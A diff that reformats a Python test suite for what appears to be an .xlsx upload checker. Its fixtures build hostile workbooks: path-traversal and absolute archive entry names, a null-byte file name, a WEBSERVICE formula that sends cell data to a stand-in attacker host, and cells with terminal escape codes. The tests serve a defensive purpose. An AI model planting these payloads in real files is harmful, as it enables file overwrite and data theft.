@@ -55,14 +55,25 @@ def with_dtd(xml: bytes) -> bytes:
 
 def climbing(place: Path) -> Path:
     return xlsx(
-        place, {"../../../../tmp/pris.txt": b"x", "/etc/pris": b"x", "..\\..\\pris": b"x", "xl/pris\0.xml": b"x"}
+        place,
+        {
+            "../../../../tmp/pris.txt": b"x",
+            "/etc/pris": b"x",
+            "..\\..\\pris": b"x",
+            "xl/pris\0.xml": b"x",
+        },
     )
 
 
 def formulas(place: Path) -> Path:
     formula = b'<c r="A2"><f>WEBSERVICE("http://pirate.invalid/"&amp;A1)</f></c>'
     return xlsx(
-        place, {SHEET: lambda xml: xml.replace(b"</sheetData>", b'<row r="99">' + formula + b"</row></sheetData>")}
+        place,
+        {
+            SHEET: lambda xml: xml.replace(
+                b"</sheetData>", b'<row r="99">' + formula + b"</row></sheetData>"
+            )
+        },
     )
 
 
@@ -108,10 +119,19 @@ def test_files_of_other_names_are_left_alone(tmp_path: Path, service: Service) -
     found = check(str(place), service)
     assert not [item for item in found if item.gravite == "erreur"]
     assert not [item for item in found if "root:" in item.message]
-    assert sum(item.code == "A001" for item in found) == 3  # a name that begins with a dot is hidden
+    assert (
+        sum(item.code == "A001" for item in found) == 3
+    )  # a name that begins with a dot is hidden
 
 
-CELLS = (b"Ville\0", b"\x1b[31mVille", b"Ville\x07", "Vil\ufffdle".encode(), b"x" * 40_000, b"#REF!")
+CELLS = (
+    b"Ville\0",
+    b"\x1b[31mVille",
+    b"Ville\x07",
+    "Vil\ufffdle".encode(),
+    b"x" * 40_000,
+    b"#REF!",
+)
 
 
 def test_a_cell_that_no_page_can_show_is_an_error(tmp_path: Path, service: Service) -> None:
